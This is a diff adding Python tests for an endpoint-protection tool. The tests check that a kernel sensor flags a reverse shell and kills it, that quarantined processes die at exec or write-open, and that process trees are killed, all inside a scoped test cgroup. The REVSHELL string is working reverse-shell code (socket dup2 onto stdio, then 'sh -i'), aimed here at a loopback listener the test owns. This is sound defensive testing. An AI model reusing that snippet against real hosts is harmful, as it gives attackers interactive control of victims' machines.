@@ -1,0 +1,217 @@
+"""Behaviour responses on the host kernel, in a scoped test cgroup.
+
+* reverse shell: a process in the cgroup connects to a loopback listener the
+  test owns, dup2s the socket onto its stdio and execs ``sh -i`` -> the live
+  sensor + behaviour pack raise behavior.reverse_shell and the dispatcher
+  kills it;
+* quarantine (compat object): a quarantined test process is killed at its
+  next exec; a child it forks afterwards is killed at its next write-open;
+  an unmarked process in the same cgroup is untouched.
+Every program is scoped to the test cgroup and carries a dead-man deadline.
+"""
+
+from __future__ import annotations
+
+import os
+import signal
+import socket
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+from bastion.detect.behavior import behavior_rules
+from bastion.detect.engine import Engine, RuleContext
+from bastion.events import HipsEvent
+from bastion.proctable import ProcessTable
+from bastion.respond.dispatch import Dispatcher, _start_ns_of
+from bastion.respond.quarantine import Quarantine
+from bastion.sensors.bpf import BpfSensor
+from support.cg import scoped_cgroup
+
+
+def spawn_in(cg: Path, argv: list[str], **kw: object) -> subprocess.Popen[bytes]:
+    shell = f'echo $$ > {cg}/cgroup.procs && exec "$@"'
+    return subprocess.Popen(["/bin/sh", "-c", shell, "sh", *argv], **kw)  # type: ignore[call-overload]
+
+
+REVSHELL = ("import os, socket, sys\n"
+            "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
+            "[os.dup2(s.fileno(), i) for i in range(3)]\n"
+            "os.execv('/bin/sh', ['sh', '-i'])\n")
+
+
+def test_reverse_shell_alert_and_kill() -> None:
+    lst = socket.socket()
+    lst.bind(("127.0.0.1", 0))
+    lst.listen(1)
+    port = lst.getsockname()[1]
+    with scoped_cgroup() as (cg, cgid):
+        sensor = BpfSensor(cgroup_id=cgid)
+        sensor.open()
+        proc = None
+        conn = None
+        try:
+            procs = ProcessTable()
+            engine = Engine(behavior_rules())
+            ctx = RuleContext(procs)
+            disp = Dispatcher(procs)
+            proc = spawn_in(cg, [sys.executable, "-c", REVSHELL, str(port)])
+            lst.settimeout(10)
+            conn, _ = lst.accept()
+            alerts = []
+            deadline = time.monotonic() + 10
+            while time.monotonic() < deadline and not alerts:
+                for ev in sensor.poll(0.01) or []:
+                    procs.update(ev)
+                    ev = procs.enrich(ev)
+                    for f in engine.evaluate(ev, ctx):
+                        if f.rule == "behavior.reverse_shell":
+                            alerts.append(disp.dispatch(f, time.time_ns()))
+            assert alerts, "no reverse-shell finding"
+            a = alerts[0]
+            assert a["action"] == "kill" and a["process"]["pid"] == proc.pid
+            assert a["severity"] == "critical" and "T1059.004" in a["attack"]
+            assert proc.wait(5) == -signal.SIGKILL
+            assert not engine.errors
+        finally:
+            if conn is not None:
+                conn.close()
+            lst.close()
+            if proc is not None and proc.poll() is None:
+                proc.kill()
+                proc.wait()
+            sensor.close()
+
+
+def test_benign_loopback_client_is_not_killed() -> None:
+    lst = socket.socket()
+    lst.bind(("127.0.0.1", 0))
+    lst.listen(1)
+    port = lst.getsockname()[1]
+    code = ("import socket, sys, subprocess\n"
+            "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
+            "s.sendall(b'hi'); s.close()\n"
+            "subprocess.run(['/bin/true'])\n")
+    with scoped_cgroup() as (cg, cgid):
+        sensor = BpfSensor(cgroup_id=cgid)
+        sensor.open()
+        try:
+            procs = ProcessTable()
+            engine = Engine(behavior_rules())
+            ctx = RuleContext(procs)
+            proc = spawn_in(cg, [sys.executable, "-c", code, str(port)])
+            lst.settimeout(10)
+            c, _ = lst.accept()
+            c.close()
+            assert proc.wait(10) == 0
+            found = []
+            for ev in sensor.poll(0.2) or []:
+                procs.update(ev)
+                found += [f for f in engine.evaluate(procs.enrich(ev), ctx)
+                          if f.severity in ("high", "critical")]
+            assert not found, [f.title for f in found]
+        finally:
+            lst.close()
+            sensor.close()
+
+
+WAITER = ("import os, sys\n"
+          "sys.stdin.readline()\n"
+          "if sys.argv[1] == 'exec':\n"
+          "    os.execv('/bin/true', ['true'])\n"
+          "pid = os.fork()\n"
+          "if pid == 0:\n"
+          "    open(sys.argv[2], 'w').write('x')\n"
+          "    os._exit(0)\n"
+          "_, st = os.waitpid(pid, 0)\n"
+          "print(st, flush=True)\n"
+          "os._exit(3)\n")
+
+
+def test_quarantine_kills_at_next_exec_and_propagates(tmp_path: Path) -> None:
+    with scoped_cgroup() as (cg, cgid):
+        q = Quarantine(tier="compat", cgroup_id=cgid, deadline_s=30, self_tgid=os.getpid())
+        q.open()
+        procs: list[subprocess.Popen[bytes]] = []
+        try:
+            marked = spawn_in(cg, [sys.executable, "-c", WAITER, "exec"],
+                              stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+            child = spawn_in(cg, [sys.executable, "-c", WAITER, "fork", str(tmp_path / "f")],
+                             stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+            clean = spawn_in(cg, [sys.executable, "-c", WAITER, "exec"],
+                             stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+            procs += [marked, child, clean]
+            time.sleep(0.3)  # let the wrappers exec python
+            for p in (marked, child):
+                q.add(p.pid, _start_ns_of(p.pid), incident=7)
+            assert set(q.members()) >= {marked.pid, child.pid}
+            for p in procs:
+                assert p.stdin is not None
+                p.stdin.write(b"go\n")
+                p.stdin.flush()
+            assert marked.wait(5) == -signal.SIGKILL          # killed at its exec
+            assert clean.wait(5) == 0                         # ran /bin/true
+            assert child.wait(5) == 3                         # the parent itself lives on ...
+            assert child.stdout is not None
+            st = int(child.stdout.read().split()[0])
+            assert os.WIFSIGNALED(st) and os.WTERMSIG(st) == signal.SIGKILL  # ... its child died
+            assert not (tmp_path / "f").exists() or (tmp_path / "f").read_text() == ""
+            evs = [e for e in q.poll() if isinstance(e, HipsEvent)]
+            assert {e.op for e in evs} >= {"exec", "open-write"}
+            assert all(e.rule_id == 7 and e.action == "kill" for e in evs)
+            f = Quarantine.finding(evs[0])
+            assert f.rule == "bastion.quarantine.enforced" and f.enforced_by
+            assert marked.pid not in q.members()              # exit removed the mark
+        finally:
+            for p in procs:
+                if p.poll() is None:
+                    p.kill()
+                    p.wait()
+            q.close()
+
+
+def test_quarantine_outside_scope_is_ignored() -> None:
+    """A mark on a process outside the test cgroup is never enforced."""
+    with scoped_cgroup() as (cg, cgid):
+        q = Quarantine(tier="compat", cgroup_id=cgid, deadline_s=30, self_tgid=os.getpid())
+        q.open()
+        p = subprocess.Popen([sys.executable, "-c", WAITER, "exec"], stdin=subprocess.PIPE)
+        try:
+            q.add(p.pid, _start_ns_of(p.pid), incident=1)
+            assert p.stdin is not None
+            p.stdin.write(b"go\n")
+            p.stdin.flush()
+            assert p.wait(5) == 0
+        finally:
+            if p.poll() is None:
+                p.kill()
+                p.wait()
+            q.close()
+
+
+def test_dispatcher_kill_tree(tmp_path: Path) -> None:
+    code = ("import os, time\n"
+            "for _ in range(3):\n"
+            "    if os.fork() == 0:\n"
+            "        os.fork(); time.sleep(60); os._exit(0)\n"
+            "time.sleep(60)\n")
+    with scoped_cgroup() as (cg, _):
+        p = spawn_in(cg, [sys.executable, "-c", code])
+        try:
+            time.sleep(0.5)
+            members = {int(x) for x in (cg / "cgroup.procs").read_text().split()}
+            assert len(members) == 7
+            from bastion.detect.engine import Finding
+            f = Finding(rule="t", title="t", severity="high", attack=(), action="kill-tree",
+                        event=None, pid=p.pid)
+            alert = Dispatcher(ProcessTable()).dispatch(f, time.time_ns())
+            assert alert["action"] == "kill-tree" and set(alert["killed"]) == members
+            deadline = time.monotonic() + 5
+            while time.monotonic() < deadline and (cg / "cgroup.procs").read_text().split():
+                time.sleep(0.05)
+            assert not (cg / "cgroup.procs").read_text().split()
+        finally:
+            if p.poll() is None:
+                p.kill()
+            p.wait()
